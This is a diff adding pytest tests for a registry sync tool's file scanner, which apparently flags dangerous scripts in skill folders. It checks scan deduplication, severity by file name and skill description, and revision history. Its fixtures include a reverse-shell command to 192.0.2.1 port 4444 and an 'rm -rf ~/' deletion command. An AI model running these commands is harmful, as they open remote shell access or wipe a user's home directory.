@@ -4,7 +4,9 @@ import os
 
 import pytest
 
-from registry.sync import fingerprint, hashing
+from registry.sync import fingerprint, hashing, recent
+from registry.sync import folder as folder_reading
+from registry.sync.recent import Recent
 from tests.conftest import OLD, write_skill
 
 ATTACK = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
@@ -108,3 +110,59 @@ class TestUnchanged:
         monkeypatch.setattr(fingerprint, "RULES", "newer")
         (explanation,) = registry.why("alpha")
         assert "changed" not in {reason.code for reason in explanation.reasons}
+
+
+def test_copies_of_a_file_are_looked_through_once_and_each_is_told_of(
+    registry, root, skill, monkeypatch
+):
+    looked, real = [], folder_reading.check_file
+
+    def look(path, data, *, defending):
+        looked.append((path, defending))
+        return real(path, data, defending=defending)
+
+    monkeypatch.setattr(folder_reading, "check_file", look)
+    (skill("alpha") / "run.sh").write_text(ATTACK)
+    (skill("beta") / "again.sh").write_text(ATTACK)
+    registry.sync(str(root), name="mine")
+    assert len(looked) == 1
+    assert stored(registry) == [FOUND]
+    assert stored(registry, "beta") == [("reverse-shell", "error", "again.sh", 2)]
+    by_name = {one.name: [f.path for f in one.findings] for one in registry.check()}
+    assert by_name == {"alpha": ["run.sh"], "beta": ["again.sh"]}
+
+
+def test_a_copy_is_judged_by_its_own_name_and_by_what_its_skill_is_about(registry, root, skill):
+    gone = "rm -rf ~/\n"
+    (skill("alpha") / "clean.sh").write_text(gone)
+    (skill("beta") / "clean.txt").write_text(gone)
+    (skill("gamma", description="Teaches security.") / "clean.txt").write_text(gone)
+    registry.sync(str(root))
+    severities = {
+        one: [(f.code, f.severity, f.path) for f in registry.get(one).diagnostics]
+        for one in ("alpha", "beta", "gamma")
+    }
+    assert severities == {
+        "alpha": [("destructive-command", "warning", "clean.sh")],
+        "beta": [("destructive-command", "warning", "clean.txt")],
+        "gamma": [("destructive-command", "info", "clean.txt")],
+    }
+
+
+def test_each_copy_of_a_file_can_be_had_again(registry, root, skill):
+    for name in ("alpha", "beta"):
+        (skill(name) / "data.txt").write_text("the same in both\n")
+    registry.sync(str(root))
+    for name in ("alpha", "beta"):
+        assert registry.history(name)[0].complete
+        assert registry.read_revision(name, 1, "data.txt") == b"the same in both\n"
+
+
+def test_what_was_met_of_late_is_bounded(monkeypatch):
+    monkeypatch.setattr(recent, "MOST", 3)
+    known = Recent()
+    for number in range(5):
+        known.note_found((number,), ())
+        known.note_stored([str(number)])
+    assert [known.found((number,)) for number in range(5)] == [None, None, (), (), ()]
+    assert [known.is_stored(str(number)) for number in range(5)] == [False, False, True, True, True]
